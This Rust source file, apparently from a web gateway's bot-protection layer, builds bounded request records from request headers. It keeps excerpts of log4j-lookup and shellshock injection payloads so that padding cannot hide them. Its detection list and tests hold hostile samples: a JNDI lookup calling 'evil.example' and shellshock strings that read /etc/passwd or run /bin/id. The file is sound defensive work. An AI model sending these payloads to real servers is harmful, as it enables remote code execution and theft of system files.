//! Building the request-facts record the host hands to rule components, with the
//! contract's bounds on path, query and headers applied.

use super::bindings::{
    AlpnProtocol, Behaviour, ChallengePass, CrawlerVerification, HttpVersion, IpAddress,
    RequestFacts, Scheme, TlsFacts, TlsVersion,
};
use crate::client::{self, Alpn, BehaviourCounts, ClientFacts, CrawlerCheck, PassState, TlsInfo};
use std::net::IpAddr;

/// The request line, the host and the headers a fact record is built from.
pub struct RequestParts<'a, H> {
    /// As sent (upper-cased and cut to 32 bytes here).
    pub method: &'a str,
    pub https: bool,
    /// The host the request addressed, as sent (a port is dropped here).
    pub host: &'a str,
    pub path: &'a str,
    pub query: &'a str,
    pub version: http::Version,
    pub headers: H,
    pub client_ip: IpAddr,
}

/// Most bytes of the request target (`path?query`) passed to components.
pub const MAX_TARGET_BYTES: usize = 16 * 1024;
/// Most header lines passed to components (the host line among them): more than the
/// listener's default `--max-headers` takes, so on a protected website only a request
/// it answers 431 has more.
pub const MAX_HEADER_LINES: usize = 128;
/// Most bytes of the joined header string passed to components.
pub const MAX_HEADER_BYTES: usize = 16 * 1024;

/// `s` cut to at most `max` bytes at a character boundary.
pub fn truncate(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// Most bytes of one header value; longer values are cut. As long as a header line
/// nginx takes by default: a browser's cookies and a bearer token are read whole.
pub const MAX_HEADER_VALUE_BYTES: usize = 8 * 1024;

/// Whether [`join_headers`] writes headers and the host line whole, every line of
/// them: at most [`MAX_HEADER_LINES`] lines, every value within
/// [`MAX_HEADER_VALUE_BYTES`] and all within [`MAX_HEADER_BYTES`], incoming `host`
/// headers left out, a value that is not UTF-8 counted as its lossy reading (each
/// invalid byte three).
pub fn headers_fit<'a, I>(host: &str, headers: impl Fn() -> I) -> bool
where
    I: Iterator<Item = (&'a str, &'a [u8])>,
{
    let fixed = "host: ".len() + host.len();
    let lines = || headers().filter(|(name, _)| !name.eq_ignore_ascii_case("host"));
    // At most three bytes written per byte read: most requests are decided here.
    let (count, most, longest) = lines().fold((1, 0, 0), |(count, sum, longest), (name, value)| {
        let sum = sum + 3 + name.len() + 3 * value.len();
        (count + 1, sum, longest.max(value.len()))
    });
    if count > MAX_HEADER_LINES {
        return false;
    }
    if fixed + most <= MAX_HEADER_BYTES && 3 * longest <= MAX_HEADER_VALUE_BYTES {
        return true;
    }
    let mut written = fixed;
    for (name, value) in lines() {
        let read = as_text(value).len();
        if read > MAX_HEADER_VALUE_BYTES {
            return false;
        }
        written += 3 + name.len() + read;
    }
    written <= MAX_HEADER_BYTES
}

/// Most payload excerpts added past the bounds ([`payload_excerpts`]).
pub const MAX_PAYLOAD_EXCERPTS: usize = 4;
/// Most bytes of one payload excerpt.
pub const PAYLOAD_EXCERPT_BYTES: usize = 256;

/// Bytes before a cut searched for a marker that straddles it (longer than any lookup
/// prefix, `${lower:`).
const STRADDLE_BYTES: usize = 32;

/// What follows `${` in a lookup log4j evaluates (its lookup names, its `${::-x}`
/// default form, a nested `${`), compared ignoring case as log4j does.
const LOOKUPS: [&[u8]; 24] = [
    b"${",
    b"::-",
    b"jndi:",
    b"lower:",
    b"upper:",
    b"env:",
    b"sys:",
    b"date:",
    b"main:",
    b"java:",
    b"base64:",
    b"bundle:",
    b"ctx:",
    b"docker:",
    b"event:",
    b"k8s:",
    b"log4j:",
    b"map:",
    b"marker:",
    b"sd:",
    b"spring:",
    b"web:",
    b"jvmrunargs:",
    b"cont:",
];

/// Whether the `${` at the start of `text` opens a log4j lookup, not a template
/// placeholder (`${name}`, `${a:b}`) that could be sent to use up the excerpts.
fn is_lookup(text: &[u8]) -> bool {
    let rest = &text[2..];
    LOOKUPS.iter().any(|lookup| {
        rest.len() >= lookup.len() && rest[..lookup.len()].eq_ignore_ascii_case(lookup)
    })
}

/// The payloads a header carries in a part the bounds cut (`cut_from`: the byte where
/// the cut began, 0 for a header dropped whole), each from an injection marker that
/// rule components look for in any header (a log4j lookup's `${`, a shell function
/// definition `() {` opening the value), at most [`PAYLOAD_EXCERPT_BYTES`] each, and
/// not overlapping. So padding a value, or sending a payload past the line bound,
/// hides nothing.
fn payload_excerpts(value: &str, cut_from: usize) -> impl Iterator<Item = &str> {
    let opening = value.trim_ascii_start();
    let shellshock = (cut_from == 0 && opening.starts_with("() {"))
        .then(|| truncate(opening, PAYLOAD_EXCERPT_BYTES));
    let mut from = cut_from.saturating_sub(STRADDLE_BYTES);
    while !value.is_char_boundary(from) {
        from -= 1;
    }
    let bytes = value.as_bytes();
    let mut next_free = from;
    let lookups = memchr::memchr_iter(b'$', &bytes[from..])
        .map(move |i| from + i)
        .filter(move |&at| {
            let text = &bytes[at..];
            let fresh = at >= next_free && text.starts_with(b"${") && is_lookup(text);
            if fresh {
                next_free = at + PAYLOAD_EXCERPT_BYTES;
            }
            fresh
        })
        // `$` is ASCII: `at` is a character boundary.
        .map(|at| truncate(&value[at..], PAYLOAD_EXCERPT_BYTES));
    shellshock.into_iter().chain(lookups)
}

/// Headers rule components rely on. When the line bound is reached, each of these is
/// still kept once, so that a flood of filler headers cannot hide them.
const ESSENTIAL_HEADERS: [&str; 15] = [
    "user-agent",
    "accept",
    "accept-language",
    "accept-encoding",
    "sec-ch-ua",
    "sec-ch-ua-mobile",
    "sec-ch-ua-platform",
    "sec-fetch-site",
    "sec-fetch-mode",
    "sec-fetch-dest",
    "authorization",
    "content-type",
    "origin",
    "referer",
    "cookie",
];

/// Joins headers as the contract wants them: `host: <host>` first, then the other
/// headers as `name: value` lines (incoming `host` headers are replaced by that first
/// line), names lower-cased, separated by `\n`, in the order received, within the bounds: at most
/// [`MAX_HEADER_LINES`] lines (plus, past that, the first occurrence of each essential
/// header), [`MAX_HEADER_BYTES`] bytes, values cut to [`MAX_HEADER_VALUE_BYTES`]. Values
/// that are not UTF-8 are passed lossily; line breaks inside a value become spaces so a
/// value can never forge a header line. Past all bounds, up to [`MAX_PAYLOAD_EXCERPTS`]
/// lines `name: excerpt` carry the payloads found in what was cut
/// ([`payload_excerpts`]). The flag says whether anything was cut.
pub fn join_headers<'a, I>(host: &str, headers: I) -> (String, bool)
where
    I: IntoIterator<Item = (&'a str, &'a [u8])>,
{
    let mut out = String::with_capacity(512);
    out.push_str("host: ");
    out.push_str(host);
    let mut lines = 1usize;
    let mut late_essentials = 0u32;
    let mut truncated = false;
    let mut excerpts: smallvec::SmallVec<[(&str, String); 1]> = smallvec::SmallVec::new();
    let mut keep_excerpt = |name: &'a str, value: &str, cut_from: usize| {
        let room = MAX_PAYLOAD_EXCERPTS - excerpts.len();
        for excerpt in payload_excerpts(value, cut_from).take(room) {
            excerpts.push((truncate(name, 64), excerpt.to_owned()));
        }
    };
    for (name, value) in headers {
        if name.eq_ignore_ascii_case("host") {
            continue;
        }
        let value = as_text(value);
        let cut = truncate(&value, MAX_HEADER_VALUE_BYTES);
        if lines >= MAX_HEADER_LINES {
            truncated = true;
            let essential = ESSENTIAL_HEADERS
                .iter()
                .position(|e| e.eq_ignore_ascii_case(name));
            match essential {
                Some(i) if late_essentials & (1 << i) == 0 => late_essentials |= 1 << i,
                _ => {
                    keep_excerpt(name, &value, 0);
                    continue;
                }
            }
        }
        let extra = 1 + name.len() + 2 + cut.len();
        if out.len() + extra > MAX_HEADER_BYTES {
            truncated = true;
            keep_excerpt(name, &value, 0);
            continue;
        }
        if cut.len() < value.len() {
            truncated = true;
            keep_excerpt(name, &value, cut.len());
        }
        out.push('\n');
        // Names from `http` are lower case already, and its values hold no line
        // break: the usual case is two copies, not a walk over every character (the
        // line-break check is memchr's, a vector at a time; a byte-by-byte `any` was
        // the largest part of building the facts under load).
        if name.bytes().any(|b| b.is_ascii_uppercase()) {
            out.extend(name.chars().map(|c| c.to_ascii_lowercase()));
        } else {
            out.push_str(name);
        }
        out.push_str(": ");
        if memchr::memchr2(b'\n', b'\r', cut.as_bytes()).is_some() {
            out.extend(
                cut.chars()
                    .map(|c| if c == '\n' || c == '\r' { ' ' } else { c }),
            );
        } else {
            out.push_str(cut);
        }
        lines += 1;
    }
    for (name, excerpt) in excerpts {
        out.push('\n');
        out.extend(name.chars().map(|c| c.to_ascii_lowercase()));
        out.push_str(": ");
        out.extend(
            excerpt
                .chars()
                .map(|c| if c == '\n' || c == '\r' { ' ' } else { c }),
        );
    }
    (out, truncated)
}

/// A header value as text: borrowed when it is UTF-8, its lossy reading when not.
/// Values are ASCII nearly always, which `is_ascii` confirms several bytes a step
/// from any alignment (`from_utf8` walks to an aligned word byte by byte first: about
/// 2 instructions a byte over a browser's headers, by callgrind).
fn as_text(value: &[u8]) -> std::borrow::Cow<'_, str> {
    if value.is_ascii() {
        // SAFETY: ASCII is valid UTF-8.
        return std::borrow::Cow::Borrowed(unsafe { std::str::from_utf8_unchecked(value) });
    }
    String::from_utf8_lossy(value)
}

/// The WIT form of an address.
pub fn ip_address(ip: IpAddr) -> IpAddress {
    match ip {
        IpAddr::V4(v4) => {
            let [a, b, c, d] = v4.octets();
            IpAddress::Ipv4((a, b, c, d))
        }
        IpAddr::V6(v6) => {
            let [a, b, c, d, e, f, g, h] = v6.segments();
            IpAddress::Ipv6((a, b, c, d, e, f, g, h))
        }
    }
}

/// `host` without a `:port` suffix (`[::1]:8443` → `[::1]`).
fn strip_port(host: &str) -> &str {
    match host.rfind(':') {
        Some(i)
            if !host[i..].contains(']')
                && (host.starts_with('[') || host[..i].find(':').is_none()) =>
        {
            &host[..i]
        }
        _ => host,
    }
}

/// A request record with the bounds applied, and what the gateway knows of the client;
/// the one way facts are built, and the one place the gateway's types become the
/// contract's.
pub fn request_facts<'a, H>(request: RequestParts<'a, H>, client: &ClientFacts<'_>) -> RequestFacts
where
    H: IntoIterator<Item = (&'a str, &'a [u8])>,
{
    let RequestParts {
        method,
        https,
        host,
        path,
        query,
        version,
        headers,
        client_ip,
    } = request;
    let host = truncate(strip_port(host), 253);
    // Sized once: collecting a filtered iterator grew the string step by step.
    let mut host_text = String::with_capacity(host.len());
    host_text.extend(
        host.chars()
            .filter(|c| !c.is_control())
            .map(|c| c.to_ascii_lowercase()),
    );
    let host = host_text;
    let (headers, headers_cut) = join_headers(&host, headers);
    let mut target = String::with_capacity(path.len() + query.len() + 1);
    target.push_str(truncate(path, MAX_TARGET_BYTES));
    if !query.is_empty() && target.len() < MAX_TARGET_BYTES {
        target.push('?');
        let room = MAX_TARGET_BYTES - target.len();
        target.push_str(truncate(query, room));
    }
    let target_cut = target.len() < path.len() + query.len() + usize::from(!query.is_empty());
    RequestFacts {
        method: truncate(method, 32).to_ascii_uppercase(),
        scheme: if https { Scheme::Https } else { Scheme::Http },
        target,
        version: http_version(version),
        headers,
        truncated: headers_cut || target_cut,
        client_ip: ip_address(client_ip),
        tls: client.tls.map(tls_facts),
        crawler: crawler_verification(client.crawler),
        challenge: challenge_pass(client.pass),
        behaviour: behaviour(client.behaviour),
    }
}

fn http_version(version: http::Version) -> HttpVersion {
    match version {
        http::Version::HTTP_09 | http::Version::HTTP_10 => HttpVersion::Http10,
        http::Version::HTTP_2 => HttpVersion::Http2,
        http::Version::HTTP_3 => HttpVersion::Http3,
        _ => HttpVersion::Http11,
    }
}

fn tls_facts(tls: &TlsInfo) -> TlsFacts {
    TlsFacts {
        version: match tls.version {
            client::TlsVersion::Tls12 => TlsVersion::Tls12,
            client::TlsVersion::Tls13 => TlsVersion::Tls13,
            client::TlsVersion::Other => TlsVersion::Other,
        },
        alpn: match tls.alpn {
            Alpn::None => AlpnProtocol::None,
            Alpn::Http11 => AlpnProtocol::Http11,
            Alpn::H2 => AlpnProtocol::H2,
            Alpn::H3 => AlpnProtocol::H3,
            Alpn::Other => AlpnProtocol::Other,
        },
        ja4: tls.ja4.clone(),
    }
}

fn crawler_verification(check: CrawlerCheck) -> CrawlerVerification {
    match check {
        CrawlerCheck::NoClaim => CrawlerVerification::NoClaim,
        CrawlerCheck::SearchEngine => CrawlerVerification::VerifiedSearchEngine,
        CrawlerCheck::SocialNetwork => CrawlerVerification::VerifiedSocialNetwork,
        CrawlerCheck::Failed => CrawlerVerification::Failed,
        CrawlerCheck::Pending => CrawlerVerification::Pending,
    }
}

fn challenge_pass(pass: PassState) -> ChallengePass {
    match pass {
        PassState::None => ChallengePass::None,
        PassState::Valid => ChallengePass::Valid,
        PassState::Waited => ChallengePass::Waited,
        PassState::Expired => ChallengePass::Expired,
        PassState::Invalid => ChallengePass::Invalid,
    }
}

fn behaviour(counts: BehaviourCounts) -> Behaviour {
    Behaviour {
        window_seconds: counts.window_seconds,
        requests: counts.requests,
        distinct_paths: counts.distinct_paths,
        failed_challenges: counts.failed_challenges,
    }
}

/// The request every component must survive at load time: an ordinary browser
/// fetching a page over HTTPS.
pub fn smoke_facts() -> RequestFacts {
    let headers: [(&str, &[u8]); 9] = [
        ("host", b"www.example.com"),
        ("user-agent", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
        ("sec-ch-ua", b"\"Google Chrome\";v=\"131\", \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\""),
        ("sec-ch-ua-mobile", b"?0"),
        ("sec-ch-ua-platform", b"\"Windows\""),
        ("accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("accept-language", b"en-GB,en;q=0.9"),
        ("accept-encoding", b"gzip, deflate, br"),
        ("sec-fetch-mode", b"navigate"),
    ];
    let tls = TlsInfo {
        version: client::TlsVersion::Tls13,
        alpn: Alpn::H2,
        ja4: "t13d1516h2_8daaf6152771_02713d6af862".into(),
    };
    let request = RequestParts {
        method: "GET",
        https: true,
        host: "www.example.com",
        path: "/",
        query: "",
        version: http::Version::HTTP_2,
        headers,
        client_ip: IpAddr::from([192, 0, 2, 1]),
    };
    request_facts(
        request,
        &ClientFacts {
            tls: Some(&tls),
            ..ClientFacts::default()
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn join<'a>(headers: impl IntoIterator<Item = (&'a str, &'a [u8])>) -> (String, bool) {
        join_headers("www.example.com", headers)
    }

    /// A plain-HTTP/1.1 request without headers from a private address.
    fn plain(method: &str, host: &str, path: &str, query: &str) -> RequestFacts {
        let request = RequestParts {
            method,
            https: false,
            host,
            path,
            query,
            version: http::Version::HTTP_11,
            headers: [],
            client_ip: IpAddr::from([10, 0, 0, 1]),
        };
        request_facts(request, &ClientFacts::default())
    }

    #[test]
    fn the_clients_facts_become_the_contracts() {
        let tls = TlsInfo {
            version: client::TlsVersion::Tls12,
            alpn: Alpn::Http11,
            ja4: "t12d".into(),
        };
        let client = ClientFacts {
            tls: Some(&tls),
            crawler: CrawlerCheck::SocialNetwork,
            pass: PassState::Waited,
            behaviour: BehaviourCounts {
                requests: 7,
                ..BehaviourCounts::default()
            },
        };
        let request = RequestParts {
            method: "GET",
            https: true,
            host: "a.example",
            path: "/",
            query: "",
            version: http::Version::HTTP_3,
            headers: [],
            client_ip: IpAddr::from([10, 0, 0, 1]),
        };
        let facts = request_facts(request, &client);
        assert_eq!(facts.scheme, Scheme::Https);
        assert_eq!(facts.version, HttpVersion::Http3);
        let wit_tls = facts.tls.unwrap();
        assert_eq!(
            (wit_tls.version, wit_tls.alpn),
            (TlsVersion::Tls12, AlpnProtocol::Http11)
        );
        assert_eq!(wit_tls.ja4, "t12d");
        assert_eq!(facts.crawler, CrawlerVerification::VerifiedSocialNetwork);
        assert_eq!(facts.challenge, ChallengePass::Waited);
        assert_eq!(facts.behaviour.requests, 7);
    }

    #[test]
    fn payloads_in_what_the_bounds_cut_are_kept_as_excerpts() {
        let payload = "${jndi:ldap://evil.example/a}";
        // Behind padding in one value, straddling the cut, and in the 78th header.
        let padded = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES + 1000));
        let straddling = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES - 1));
        let mut many: Vec<(String, String)> = (0..MAX_HEADER_LINES + 13)
            .map(|i| (format!("x-filler-{i}"), "1".to_owned()))
            .collect();
        many.push(("x-late".into(), payload.into()));
        many.push(("x-shell".into(), "() { :; }; /bin/cat /etc/passwd".into()));
        for headers in [
            vec![("x-pad".to_owned(), padded)],
            vec![("x-pad".to_owned(), straddling)],
            many,
        ] {
            let (joined, cut) = join(headers.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
            assert!(cut);
            assert!(joined.contains(&format!(": {payload}")), "{joined}");
        }
        let (joined, _) = join((0..MAX_HEADER_LINES + 6).map(|i| {
            if i < MAX_HEADER_LINES + 5 {
                ("x-filler", &b"1"[..])
            } else {
                ("x-shell", &b" () { :; }; /bin/id"[..])
            }
        }));
        assert!(
            joined.ends_with("\nx-shell: () { :; }; /bin/id"),
            "{joined}"
        );
    }

    #[test]
    fn placeholders_and_a_cut_inside_the_marker_hide_no_payload() {
        let payload = "${jndi:ldap://evil.example/a}";
        for k in 0..12 {
            let value = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES - k));
            let (joined, _) = join([("x-pad", value.as_bytes())]);
            assert!(
                joined.ends_with(&format!("\nx-pad: {payload}")),
                "{k}: {joined}"
            );
        }
        let decoys = format!(
            "{}{}{payload}",
            "x".repeat(MAX_HEADER_VALUE_BYTES + 50),
            "${name} ${a:b} ${x:y:z} ".repeat(60)
        );
        let (joined, _) = join([("x-decoys", decoys.as_bytes())]);
        assert!(joined.contains(&format!("x-decoys: {payload}")), "{joined}");
        let mut late: Vec<(String, String)> = (0..MAX_HEADER_LINES + 6)
            .map(|i| (format!("x-filler-{i}"), "${placeholder}".to_owned()))
            .collect();
        late.push(("x-late".into(), payload.into()));
        let (joined, _) = join(late.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
        assert!(
            joined.ends_with(&format!("\nx-late: {payload}")),
            "{joined}"
        );
    }

    #[test]
    fn long_benign_headers_add_no_excerpt_and_excerpts_are_bounded() {
        let cookie = format!("session={}", "b".repeat(4096));
        let mut headers: Vec<(String, String)> = vec![("cookie".into(), cookie)];
        headers.extend((0..200).map(|i| (format!("x-ordinary-{i}"), format!("value {i}"))));
        let (joined, cut) = join(headers.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
        assert!(cut);
        assert_eq!(joined.lines().count(), MAX_HEADER_LINES);
        let flood: Vec<(String, String)> = (0..200)
            .map(|i| (format!("x-{i}"), format!("${{jndi:ldap://e/{i}}}")))
            .collect();
        let (joined, _) = join(flood.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
        assert_eq!(
            joined.lines().count(),
            MAX_HEADER_LINES + MAX_PAYLOAD_EXCERPTS
        );
        let huge = format!(
            "{}${{jndi:{}}}",
            "a".repeat(MAX_HEADER_VALUE_BYTES),
            "z".repeat(5000)
        );
        let (joined, _) = join([("x-huge", huge.as_bytes())]);
        let excerpt = joined.lines().last().unwrap();
        assert_eq!(excerpt.len(), "x-huge: ".len() + PAYLOAD_EXCERPT_BYTES);
    }

    /// What `headers_fit` says fits is what `join_headers` writes whole.
    #[test]
    fn headers_fit_exactly_what_is_written_whole() {
        let cases: Vec<Vec<(&str, Vec<u8>)>> = vec![
            vec![("cookie", vec![b'c'; MAX_HEADER_VALUE_BYTES])],
            vec![("cookie", vec![b'c'; MAX_HEADER_VALUE_BYTES + 1])],
            vec![("x-a", vec![0xff; MAX_HEADER_VALUE_BYTES / 3])],
            vec![("x-a", vec![0xff; MAX_HEADER_VALUE_BYTES / 3 + 1])],
            vec![("x-a", vec![b'a'; 8000]), ("x-b", vec![b'b'; 8000])],
            vec![("x-a", vec![b'a'; 8190]), ("x-b", vec![b'b'; 8190])],
            vec![("host", vec![b'h'; 20_000]), ("x-a", vec![b'a'; 100])],
            vec![("x-f", vec![b'1']); MAX_HEADER_LINES - 1],
            vec![("x-f", vec![b'1']); MAX_HEADER_LINES],
            // Past the line bound an essential header is still written, but not all.
            [
                vec![("x-f", vec![b'1']); MAX_HEADER_LINES - 1],
                vec![("referer", vec![b'r']); 2],
            ]
            .concat(),
        ];
        for headers in cases {
            let fits = headers_fit("www.example.com", || {
                headers.iter().map(|(n, v)| (*n, v.as_slice()))
            });
            let (_, cut) = join(headers.iter().map(|(n, v)| (*n, v.as_slice())));
            let sizes: Vec<usize> = headers.iter().map(|(_, v)| v.len()).collect();
            assert_eq!(fits, !cut, "{sizes:?}");
        }
    }

    #[test]
    fn values_are_read_as_utf8_or_lossily() {
        for value in [
            &b""[..],
            b"text/html,application/xhtml+xml;q=0.9",
            "caf\u{e9} \u{1f600}".as_bytes(),
            b"a\xffb",
            b"\xe2\x82",
            b"\x7f\x80",
        ] {
            assert_eq!(as_text(value), String::from_utf8_lossy(value), "{value:?}");
        }
        let (joined, _) = join([("x-a", &b"caf\xc3\xa9 \xff"[..])]);
        assert!(joined.ends_with("x-a: caf\u{e9} \u{fffd}"), "{joined}");
    }

    #[test]
    fn truncate_respects_char_boundaries() {
        assert_eq!(truncate("héllo", 2), "h");
        assert_eq!(truncate("abc", 10), "abc");
    }

    #[test]
    fn headers_are_lowercased_and_joined_after_the_host_line() {
        let (joined, cut) = join([
            ("User-Agent", &b"x"[..]),
            ("Host", b"evil"),
            ("Accept", b"*/*"),
        ]);
        assert_eq!(joined, "host: www.example.com\nuser-agent: x\naccept: */*");
        assert!(!cut);
    }

    #[test]
    fn header_values_cannot_forge_lines() {
        let (joined, _) = join([("x-a", &b"1\nuser-agent: forged"[..])]);
        assert_eq!(joined.lines().count(), 2);
    }

    #[test]
    fn filler_headers_cannot_hide_the_user_agent() {
        let filler: Vec<(String, Vec<u8>)> = (0..200)
            .map(|i| (format!("x-filler-{i}"), b"v".to_vec()))
            .chain([("User-Agent".to_owned(), b"sqlmap/1.8".to_vec())])
            .chain((0..5).map(|_| ("user-agent".to_owned(), b"again".to_vec())))
            .collect();
        let (joined, cut) = join(filler.iter().map(|(n, v)| (n.as_str(), v.as_slice())));
        assert!(cut);
        assert_eq!(joined.lines().count(), MAX_HEADER_LINES + 1);
        assert!(joined.ends_with("user-agent: sqlmap/1.8"));
    }

    #[test]
    fn a_huge_value_is_cut_not_dropped() {
        let huge = vec![b'a'; 100_000];
        let (joined, cut) = join([("user-agent", huge.as_slice()), ("accept", b"*/*")]);
        assert!(cut);
        assert_eq!(joined.lines().count(), 3);
        assert!(joined.len() <= MAX_HEADER_BYTES);
    }

    #[test]
    fn header_count_and_size_are_bounded() {
        let many: Vec<(String, Vec<u8>)> = (0..200)
            .map(|i| (format!("x-{i}"), vec![b'v'; 10]))
            .collect();
        let (joined, cut) = join(many.iter().map(|(n, v)| (n.as_str(), v.as_slice())));
        assert_eq!(joined.lines().count(), MAX_HEADER_LINES);
        assert!(cut);

        let big = vec![b'v'; 6000];
        let (joined, cut) = join((0..20).map(|_| ("x-big", big.as_slice())));
        assert!(joined.len() <= MAX_HEADER_BYTES);
        assert_eq!(
            joined.lines().count(),
            3,
            "the host line and 2 whole values"
        );
        assert!(cut);
        let longer = vec![b'v'; 10_000];
        let (joined, cut) = join([("cookie", longer.as_slice())]);
        assert_eq!(
            joined.len(),
            "host: www.example.com\ncookie: ".len() + MAX_HEADER_VALUE_BYTES
        );
        assert!(cut);
    }

    #[test]
    fn target_and_host_are_bounded_and_normalised() {
        let facts = plain("get", "WWW.Example.COM:8080", "/a", "b=1");
        assert_eq!(facts.method, "GET");
        assert_eq!(facts.headers, "host: www.example.com");
        assert_eq!(facts.target, "/a?b=1");
        assert!(!facts.truncated);

        let long = "/".repeat(20_000);
        let facts = plain("GET", "h", &long, "q=1");
        assert_eq!(facts.target.len(), MAX_TARGET_BYTES);
        assert!(facts.truncated);

        // Control characters, ASCII or not, never reach the header block.
        for (host, read) in [
            ("a.example", "a.example"),
            ("a\u{7}.Example", "a.example"),
            ("a\u{85}.example", "a.example"),
            ("b\u{e9}.example", "b\u{e9}.example"),
        ] {
            let facts = plain("GET", host, "/", "");
            assert_eq!(facts.headers, format!("host: {read}"), "{host:?}");
        }

        assert_eq!(strip_port("[::1]:8443"), "[::1]");
        assert_eq!(strip_port("[::1]"), "[::1]");
        assert_eq!(strip_port("example.com"), "example.com");
    }
}
